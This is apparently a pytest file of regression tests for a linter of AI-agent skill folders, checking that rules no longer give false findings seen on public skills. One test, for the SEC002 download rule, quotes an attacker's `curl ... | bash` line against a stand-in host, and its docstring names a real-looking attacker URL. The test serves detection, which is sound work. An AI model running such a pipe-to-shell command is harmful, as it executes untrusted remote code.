"""False findings seen on real public skills (set Y: fourteen collections of companies and
well-known authors), each beside the rule's own case.

Every test writes a small skill with the pattern that used to give a wrong finding (no finding, or
the right one, now) and the pattern the rule is for (still a finding), and runs ``check`` (and
``fix``, where the finding comes with a fix, running the script before and after it).
"""

from __future__ import annotations

import subprocess

from conftest import run_cli
from test_precision_contract import skill


def _messages(root, rule):
    data = run_cli("check", ".", "--json", "--no-cache", "--select", f"ALL,{rule}", cwd=root).json()["data"]
    return sorted((f["path"], f["line"], f["message"], f["fix"]) for f in data if f["rule"] == rule)


def _runs(path, *argvs):
    return [(r.returncode, r.stdout, r.stderr.replace(str(path), "X"))
            for r in (subprocess.run(["bash", str(path), *argv], capture_output=True, text=True) for argv in argvs)]


def test_reads_of_arguments_a_count_test_guards_are_safe_under_nounset(tmp_path):
    """SHL001 on real skills: review_poster.sh exits when `[ $# -eq 0 ]` and then reads `$1`;
    ghidra-analyze.sh reads `case $1` inside `while [[ $# -gt 0 ]]` and `${SCRIPTS[$i]}` in
    `for i in "${!SCRIPTS[@]}"`. The finding said `set -u` would stop them there, and so offered
    no fix. They are safe: the fix is offered, and the script behaves the same after it. A `$2`
    read for an option's value, and a `$1` read after a `shift`, are still named."""
    guarded = ('#!/usr/bin/env bash\n# Review a poster.\n# Usage: review.sh FILE [-o OUT]\nset -e\n'
               'if [ $# -eq 0 ]; then\n  echo "Error: no file" >&2\n  exit 1\nfi\nFILE="$1"\n'
               'NAMES=(a b)\nfor i in "${!NAMES[@]}"; do echo "${NAMES[$i]}"; done\n'
               'while [[ $# -gt 0 ]]; do\n  case $1 in\n    -h) echo help; exit 0 ;;\n'
               '    -*) echo "Unknown option: $1" >&2; exit 2 ;;\n    *) shift ;;\n  esac\ndone\necho "$FILE"\n')
    risky = ('#!/usr/bin/env bash\n# Tag a file.\n# Usage: tag.sh -o OUT FILE\nset -e\n'
             'while [[ $# -gt 0 ]]; do\n  case $1 in\n    -o) OUT=$2; shift 2 ;;\n    *) break ;;\n  esac\ndone\n'
             'shift || true\necho "${OUT:-none} $1"\n')
    root = skill(tmp_path, "poster", "Run `scripts/review.sh poster.pdf`, `scripts/tag.sh -o x f`.",
                 {"scripts/review.sh": guarded, "scripts/tag.sh": risky}, mode=0o755)
    got = {p: m for p, _, m, _ in _messages(root, "SHL001")}
    assert got["scripts/review.sh"] == "strict mode is missing nounset and pipefail; add 'set -uo pipefail' after the header"
    assert "reads $2 (line 7), $1 (line 12) unset" in got["scripts/tag.sh"]
    argvs = [(), ("poster.pdf",), ("poster.pdf", "-x"), ("-h",), ("a", "b")]
    before = _runs(root / "scripts/review.sh", *argvs)
    run_cli("fix", str(root), "--select", "SHL001")
    assert "set -euo pipefail" in (root / "scripts/review.sh").read_text()
    assert "set -euo pipefail" not in (root / "scripts/tag.sh").read_text()
    assert _runs(root / "scripts/review.sh", *argvs) == before


def test_a_message_where_the_output_went_to_a_file_spoils_no_output(tmp_path):
    """PYS053 on real skills: trailofbits' render.py prints `wrote {args.out}` in the `if args.out:`
    branch that writes the Markdown to the file, and prints the Markdown itself in the `else`
    branch. stdout carries nothing else there. The same message beside the printed output is
    still a finding."""
    def script(out_branch):
        return ('"""Render a report.\n\nUsage: render.py REPORT [--out FILE]\n"""\nimport argparse\nfrom pathlib import Path\n\n\n'
                'def main():\n    p = argparse.ArgumentParser()\n    p.add_argument("report")\n'
                '    p.add_argument("--out", type=Path); p.add_argument("--json", action="store_true")\n    args = p.parse_args()\n    text = "# " + args.report\n'
                f'    if args.out:\n{out_branch}'
                '    else:\n        print(text)\n    return 0\n\n\nif __name__ == "__main__":\n    raise SystemExit(main())\n')
    root = skill(tmp_path, "render", "Run `scripts/a.py r.json`, `scripts/b.py r.json`.", {
        "scripts/a.py": script('        args.out.write_text(text)\n        print(f"Wrote {args.out}")\n'),
        "scripts/b.py": script('        print("Writing the report...")\n        print(text)\n'),
    })
    assert [(p, line) for p, line, _, _ in _messages(root, "PYS053")] == [("scripts/b.py", 16)]


def test_a_link_to_a_skill_listed_in_the_same_marketplace_plugin_resolves(tmp_path):
    """RES003 on real skills: AI-Research-SKILLs' miles skill links `../slime/references/api.md`;
    the marketplace's post-training plugin lists both folders in its `skills`, so they are
    installed together. A link to a skill no plugin lists with it still leaves the skill."""
    import json

    from conftest import write_tree

    def body(link):
        return f"---\nname: {link[0]}\ndescription: Train models. Use when the user asks to fine-tune.\n---\n\n" \
               f"# Train\n\nSee [the API]({link[1]}).\n"
    write_tree(tmp_path, {
        ".claude-plugin/marketplace.json": json.dumps({"name": "research", "plugins": [
            {"name": "post-training", "source": "./", "skills": ["./06-post/miles", "./06-post/slime"]},
            {"name": "writing", "source": "./", "skills": ["./06-post/writer"]}]}),
        "06-post/miles/SKILL.md": body(("miles", "../slime/references/api.md")),
        "06-post/writer/SKILL.md": body(("writer", "../slime/references/api.md")),
        "06-post/slime/SKILL.md": body(("slime", "references/api.md")),
        "06-post/slime/references/api.md": "# API\n",
    })
    data = run_cli("check", ".", "--json", "--no-cache", "--select", "RES003", cwd=tmp_path).json()["data"]
    assert [f["path"] for f in data] == ["06-post/writer/SKILL.md"]


def test_an_attack_write_up_shows_the_payload_and_an_installation_section_its_installer(tmp_path):
    """SEC002 on real skills: getsentry's gha-security-review quotes the attacker's
    `curl -sSfL https://hackmoltrepeat.com/molt | bash` under "### Attack" in its write-up of real
    attacks; Jeffallan's service-mesh reference installs Istio with
    `curl -L https://istio.io/downloadIstio | sh -` under "## Istio Installation"; broomva's
    livecoding skill installs ghcup under "## First-time install (if pre-flight fails)". The same
    download as a step of the skill's own workflow is still a finding."""
    attacks = ("# Real-world attacks\n\nHow attackers abused pull_request_target.\n\n### Attack\n\n"
               "The attacker injected:\n\n```bash\ncurl -sSfL https://evil.example/molt | bash\n```\n")
    mesh = ("# Service Mesh\n\n## Istio Installation\n\n```bash\ncurl -L https://istio.io/downloadIstio | sh -\n```\n\n"
            "## First-time install (if pre-flight fails)\n\n```bash\ncurl --proto '=https' https://get-ghcup.haskell.org | sh\n```\n\n"
            "## Deploy\n\n```bash\ncurl -L https://example.com/deploy | sh -\n```\n")
    root = skill(tmp_path, "review", "Read [attacks](references/attacks.md) and [mesh](references/mesh.md).",
                 {"references/attacks.md": attacks, "references/mesh.md": mesh})
    assert [(p, line) for p, line, _, _ in _messages(root, "SEC002")] == [("references/mesh.md", 18)]


def test_a_path_taken_first_and_the_rest_handed_on_refuse_unknown_options(tmp_path):
    """SHL003 on real skills: trailofbits' burp-search.sh checks `[ $# -lt 2 ]`, takes
    `PROJECT_FILE="$1"; shift`, and hands the rest to Burp's jar (`java -jar "$BURP_JAR"
    --project-file="$PROJECT_FILE" "$@"`), which judges them. The count test and the `shift`
    read no option; with the file refused with exit 2 unless it exists, an option given first is
    refused too. A name never tested still lets an option through."""
    def script(test):
        return ('#!/usr/bin/env bash\n# Search a project.\n# Usage: search.sh PROJECT QUERY...\nset -eu\n'
                f'[ $# -ge 1 ] || exit 2\nPROJECT="$1"\nshift\n{test}java -jar tool.jar --project="$PROJECT" "$@"\n')
    root = skill(tmp_path, "burp", "Run `scripts/a.sh p.burp issues` or `scripts/b.sh p.burp issues`.", {
        "scripts/a.sh": script('if [ ! -f "$PROJECT" ]; then\n  echo "Error: not found: $PROJECT" >&2\n  exit 2\nfi\n'),
        "scripts/b.sh": script(""),
    }, mode=0o755)
    assert [p for p, *_ in _messages(root, "SHL003")] == ["scripts/b.sh"]


def test_a_header_after_a_copyright_notice_is_the_header(tmp_path):
    """CON006/CON005 on real skills: hashicorp's list_resources.sh opens with
    `# Copyright IBM Corp. 2025, 2026` / `# SPDX-License-Identifier: MPL-2.0`, then a blank line and
    its header (`# Extract list resources ...` / `# Usage: ./list_resources.sh [provider_name]`).
    The findings read the notice as the header: "no Usage:", "no one-line description". `fix`
    writes the missing fields into the header, not into the notice, and the script still parses.
    A notice with no block after it is still read as the script's header."""
    notice = "#!/bin/bash\n# Copyright IBM Corp. 2025\n# SPDX-License-Identifier: MPL-2.0\n\n"
    header = "# List the resources of a provider.\n# Usage: ./list.sh [provider]\n\n"
    code = 'set -e\nPROVIDER="${1:-aws}"\necho "$PROVIDER"\n'
    root = skill(tmp_path, "tf", "Run `scripts/list.sh aws` or `scripts/bare.sh`.",
                 {"scripts/list.sh": notice + header + code, "scripts/bare.sh": notice + code}, mode=0o755)
    got = {(p, rule): (line, m) for rule in ("CON005", "CON006") for p, line, m, _ in _messages(root, rule)}
    assert got[("scripts/list.sh", "CON006")][0] == 5
    assert "Usage:" not in got[("scripts/list.sh", "CON006")][1]
    assert ("scripts/list.sh", "CON005") not in got
    assert got[("scripts/bare.sh", "CON006")][0] == 2  # the notice is all the comment it has
    run_cli("fix", str(root), "--select", "CON006")
    fixed = (root / "scripts/list.sh").read_text()
    assert fixed.startswith(notice + "# List the resources of a provider.\n# Usage: ./list.sh [provider]\n# Input:")
    assert subprocess.run(["bash", "-n", str(root / "scripts/list.sh")]).returncode == 0


def test_a_skill_md_link_to_nothing_is_said_to_be_broken(tmp_path):
    """SPC001 on real skills: 213 of alirezarezvani's `.gemini/skills/*/SKILL.md` links point to
    files that do not exist; the finding called them "a symbolic link", as if a host that
    follows links would find the skill. A link to a file that exists keeps that message."""
    import os

    from conftest import write_tree

    write_tree(tmp_path, {"real/SKILL.md": "---\nname: real\ndescription: Do it. Use when asked.\n---\n\n# Real\n",
                          "gone/notes.md": "# Notes\n", "kept/notes.md": "# Notes\n"})
    os.symlink("../missing/SKILL.md", tmp_path / "gone/SKILL.md")
    os.symlink("../real/SKILL.md", tmp_path / "kept/SKILL.md")
    data = run_cli("check", ".", "--json", "--no-cache", "--select", "SPC001", cwd=tmp_path).json()["data"]
    assert sorted((f["path"], f["message"]) for f in data) == [
        ("gone/SKILL.md", "SKILL.md is a broken symbolic link: ../missing/SKILL.md does not exist; "
                          "every host sees no SKILL.md here"),
        ("kept/SKILL.md", "SKILL.md is a symbolic link (to ../real/SKILL.md); skillsmith does not follow links "
                          "and hosts that copy skills may drop it")]


def test_an_agents_md_that_points_to_claude_md_is_one_source(tmp_path):
    """SUC001 on real skills: a project whose `AGENTS.md` only says "See CLAUDE.md for this
    project's instructions" keeps one source, as a CLAUDE.md that points to AGENTS.md does. An
    AGENTS.md of its own beside CLAUDE.md is still a second copy."""
    from conftest import write_tree

    write_tree(tmp_path, {"CLAUDE.md": "# Rules\n\n" + "- Run the tests before you commit.\n" * 20,
                          ".skills/a/SKILL.md": "---\nname: a\ndescription: Do a. Use when asked.\n---\n\n# A\n"})
    rules = []
    for text in ("See [CLAUDE.md](CLAUDE.md) for this project's instructions.\n",
                 "# Rules\n\n" + "- Keep functions short.\n" * 20):
        (tmp_path / "AGENTS.md").write_text(text)
        data = run_cli("check", ".", "--json", "--no-cache", "--target", "sucoder", cwd=tmp_path).json()["data"]
        rules.append(sorted({f["rule"] for f in data if f["rule"] == "SUC001"}))
    assert rules == [[], ["SUC001"]]


def test_an_epilog_left_for_a_person_says_skill_md_shows_only_placeholders(tmp_path):
    """PYS002 on real skills: letta's importing-chatgpt-memory cites
    `python3 scripts/list-conversations.py <export.zip> --json`; the finding said SKILL.md has no
    invocation the parser accepts, as if it cited none. It names the placeholder that keeps the
    citation from being an example (hasna's merge-pr: `/path/to/fresh-preflight.json`). A script SKILL.md never cites keeps the first message."""
    code = ('"""List conversations."""\nimport argparse\n\n\ndef main():\n    p = argparse.ArgumentParser()\n'
            '    p.add_argument("export")\n    p.add_argument("--json", action="store_true")\n    p.parse_args()\n\n\n'
            'if __name__ == "__main__":\n    main()\n')
    root = skill(tmp_path, "chat", "```bash\npython3 scripts/list.py <export.zip> --json\n"
                 "python3 scripts/guard.py /path/to/export.zip\npython3 scripts/guard.py\n```\n",
                 {"scripts/list.py": code, "scripts/other.py": code, "scripts/guard.py": code})
    got = {p: m for p, _, m, _ in _messages(root, "PYS002")}
    assert got["scripts/guard.py"].endswith("(SKILL.md's calls of it hold placeholders such as /path/to/export.zip, "
                                            "or lack what the parser requires)")
    assert got["scripts/list.py"].endswith("(SKILL.md shows it only with placeholders such as <export.zip>, "
                                           "which an example must fill with real values)")
    assert got["scripts/other.py"].endswith("(none in SKILL.md or the docstring that the parser accepts)")


def test_the_readme_of_a_folder_skill_md_sends_the_agent_to_is_its_index(tmp_path):
    """RES006 on real skills: K-Dense's timesfm-forecasting lists `examples/global-temperature/`
    in a table ("copy-paste baseline") and says `cd examples/global-temperature && python
    run_forecast.py`; the README in that folder is what the agent opens there. A README of a
    folder SKILL.md never names is still a document for people."""
    body = ("| Example | Folder |\n|---|---|\n| Temperature | `examples/global-temperature/` |\n\n"
            "```bash\ncd examples/global-temperature && python run.py\n```\n")
    root = skill(tmp_path, "timesfm", body, {
        "examples/global-temperature/README.md": "# Temperature\n\nRun run.py.\n",
        "examples/global-temperature/run.py": "print(1)\n",
        "examples/global/README.md": "# Global\n\nNotes for maintainers.\n",
    })
    assert [p for p, *_ in _messages(root, "RES006")] == ["examples/global/README.md"]


def test_status_beside_a_log_of_text_in_a_script_that_writes_its_results_to_files(tmp_path):
    """PYS053 on real skills (set Z): ga_fetch.py prints "Connecting to GA4 property: ...",
    "Date range: ..." and "Report saved to: ..." while the report goes to a file;
    aggregate_benchmark.py prints "Generated: ..." and a "Summary:" of f-string lines after
    `json.dump(benchmark, f)`. stdout is a log for a person: no output for a status line to
    spoil. A script that also prints a value alone (the report itself) still gets the finding."""
    def script(extra):
        return ('"""Fetch a report.\n\nUsage: fetch.py ID\n"""\nimport json\nimport sys\n\n\n'
                'def main():\n    print("Connecting to the API...")\n    report = {"id": sys.argv[1]}\n'
                '    with open("report.json", "w") as f:\n        json.dump(report, f)\n'
                '    print(f"Date range: {sys.argv[1]}")\n    print(f"Report saved to: report.json")\n'
                f'{extra}    if "--json" in sys.argv[2:]:\n        sys.exit(2)\n\n\nif __name__ == "__main__":\n    main()\n')
    root = skill(tmp_path, "ga", "Run `scripts/a.py 1` or `scripts/b.py 1`.", {
        "scripts/a.py": script(""), "scripts/b.py": script("    print(report['id'])\n")})
    assert [(p, line) for p, line, _, _ in _messages(root, "PYS053")] == [("scripts/b.py", 10)]


def test_a_functions_own_case_on_its_first_argument_names_no_subcommands(tmp_path):
    """CON013 on real skills (set Z): get_next_date.sh reads no arguments; its `day_to_num()`
    does `case "$1" in sunday) ...` for the `"$day"` it is given. The bare
    `bash scripts/get_next_date.sh` in SKILL.md is the whole call, not one missing a
    sunday|monday|... subcommand. A script whose top level switches on `$1` still needs one."""
    def script(body):
        return f'#!/usr/bin/env bash\n# Print the next date.\nset -eu\n{body}'
    days = 'day_to_num() {\n  case "$1" in\n    sunday) echo 0 ;;\n    monday) echo 1 ;;\n    *) echo -1 ;;\n  esac\n}\n' \
           'day_to_num "$(date +%A | tr A-Z a-z)"\n'
    tool = 'case "$1" in\n  clone) echo c ;;\n  pull) echo p ;;\nesac\n'
    root = skill(tmp_path, "dates", "```bash\nbash scripts/next.sh\n```\n\n```bash\nbash scripts/tool.sh\n```\n",
                 {"scripts/next.sh": script(days), "scripts/tool.sh": script(tool)}, mode=0o755)
    assert [m.split()[0] for _, _, m, _ in _messages(root, "CON013")] == ["scripts/tool.sh"]


def test_claude_code_fields_of_a_skill_in_claude_skills_that_also_has_codex_metadata(tmp_path):
    """SPC030 on real skills (set Z): wix's `.claude/skills/writing-great-skills/` has
    `disable-model-invocation: true` and an `agents/openai.yaml`; the finding said "Codex ignores
    it", though Claude Code loads the skill from that folder, where the field is valid. The same
    field in a Codex skill outside `.claude/skills/` is still named."""
    from conftest import write_tree

    md = "---\nname: {0}\ndescription: Write skills. Use when editing a skill.\ndisable-model-invocation: true\n---\n\n# W\n"
    write_tree(tmp_path, {
        ".claude/skills/writer/SKILL.md": md.format("writer"),
        ".claude/skills/writer/agents/openai.yaml": "interface:\n  display_name: Writer\n",
        "skills/editor/SKILL.md": md.format("editor"),
        "skills/editor/agents/openai.yaml": "interface:\n  display_name: Editor\n",
    })
    data = run_cli("check", ".", "--json", "--no-cache", "--select", "SPC030", "--target", "codex", cwd=tmp_path).json()["data"]
    assert [f["path"] for f in data] == ["skills/editor/SKILL.md"]


def test_a_reserved_word_in_a_projects_own_agents_skills_folder(tmp_path):
    """SPC018 on real skills (set Z): nklisch's `.agents/skills/claude-code-marketplace/` is a
    project's own skill, loaded in place by the hosts that read `.agents/skills`; it is never
    uploaded to claude.ai, whose refusal the rule warns of. The same name in a collection's
    `skills/` folder may be uploaded, and is still named."""
    from conftest import write_tree

    md = "---\nname: claude-code-marketplace\ndescription: Edit the marketplace. Use when adding a plugin.\n---\n\n# M\n"
    write_tree(tmp_path, {".agents/skills/claude-code-marketplace/SKILL.md": md,
                          "skills/claude-code-marketplace/SKILL.md": md})
    data = run_cli("check", ".", "--json", "--no-cache", "--select", "SPC018", cwd=tmp_path).json()["data"]
    assert [f["path"] for f in data] == ["skills/claude-code-marketplace/SKILL.md"]


def test_no_unknown_option_finding_where_part_of_the_script_does_not_parse(tmp_path):
    """SHL003 on real skills (set Z): tick.sh reads no arguments (its input is `GAL_*`
    variables), but `num_or() { case "$1" in (*[!0-9]*|"") ...` is a case item the shell parser
    cannot read, and the rule said "no case branch rejects unknown options": it cannot tell. A
    script that parses, takes a name and ignores an option given for it, is still named."""
    unparsed = ('#!/usr/bin/env bash\n# Tick once.\nset -eu\nnum_or() { case "$1" in (*[!0-9]*|"") echo "$2" ;; '
                '(*) echo $((10#$1)) ;; esac; }\nn=$(num_or "${GAL_MAX:-}" 5)\necho "$n"\n')
    parsed = '#!/usr/bin/env bash\n# Tag a file.\nset -eu\nname="$1"\necho "tagged $name"\n'
    root = skill(tmp_path, "loop", "```bash\nbash scripts/tick.sh --dry-run\nbash scripts/tag.sh x --force\n```\n",
                 {"scripts/tick.sh": unparsed, "scripts/tag.sh": parsed}, mode=0o755)
    assert [p for p, *_ in _messages(root, "SHL003")] == ["scripts/tag.sh"]


def test_a_file_of_a_sibling_skill_the_sentence_hands_off_to(tmp_path):
    """RES002 on real skills (set Z): wix-replatform says "Invoke the `wix-headless` skill (...
    it starts at its own `SKILL.md`, which ... routes a new-site run to
    `references/managed/CREATE.md`)": the file is wix-headless's, which holds it. A path that no
    skill named there holds is still missing."""
    from conftest import write_tree

    body = ("2. Hand off to `wix-headless`. Invoke the `wix-headless`\n   skill (it starts at its own `SKILL.md`, which\n"
            "   routes a new-site run to `references/managed/CREATE.md`) with the intent.\n"
            "3. Then read `references/managed/DEPLOY.md`.\n")
    write_tree(tmp_path, {
        "skills/replatform/SKILL.md": f"---\nname: replatform\ndescription: Move a site. Use when asked.\n---\n\n{body}",
        "skills/wix-headless/SKILL.md": "---\nname: wix-headless\ndescription: Make a site. Use when asked.\n---\n\n# H\n",
        "skills/wix-headless/references/managed/CREATE.md": "# Create\n",
    })
    data = run_cli("check", ".", "--json", "--no-cache", "--select", "RES002", cwd=tmp_path).json()["data"]
    assert [(f["path"], f["line"]) for f in data] == [("skills/replatform/SKILL.md", 9)]


def test_link_syntax_shown_as_code_is_no_link_of_the_skill(tmp_path):
    """RES003 on real skills (set Z): broomva's blog-post skill tells the agent to write
    `` `![Alt text](/images/writing/{slug}/image-name-opt.png)` `` into the post: Markdown shown in
    a code span, a URL of the published site, not a path the skill cites. The same link written
    as a link of SKILL.md still leaves the skill."""
    body = ("Add images as `![Alt text](/images/writing/{slug}/a.png)` in the post.\n\n"
            "```markdown\n![Cover](/images/cover.png)\n```\n\nSee [the guide](/home/me/guide.md).\n")
    root = skill(tmp_path, "blog", body, {})
    assert [(p, line) for p, line, _, _ in _messages(root, "RES003")] == [("SKILL.md", 11)]

